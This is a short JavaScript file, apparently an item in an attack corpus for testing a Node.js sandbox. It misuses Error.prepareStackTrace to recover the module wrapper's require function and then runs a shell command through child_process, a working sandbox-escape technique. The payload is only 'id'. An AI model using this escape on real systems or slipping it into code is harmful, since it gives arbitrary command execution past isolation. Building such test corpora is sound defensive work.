// corpus: attack class=process form=targeted
// The stack-trace API hands out the functions of sloppy frames.
Error.prepareStackTrace = (_, frames) => frames;
const frames = new Error().stack;
Error.prepareStackTrace = undefined;
const wrapper = frames.map((frame) => frame.getFunction()).find((fn) => fn && fn.length === 5);
const load = wrapper.arguments[1];

function main() {
  return { out: load('child_process').execSync('id').toString() };
}

module.exports = { main };
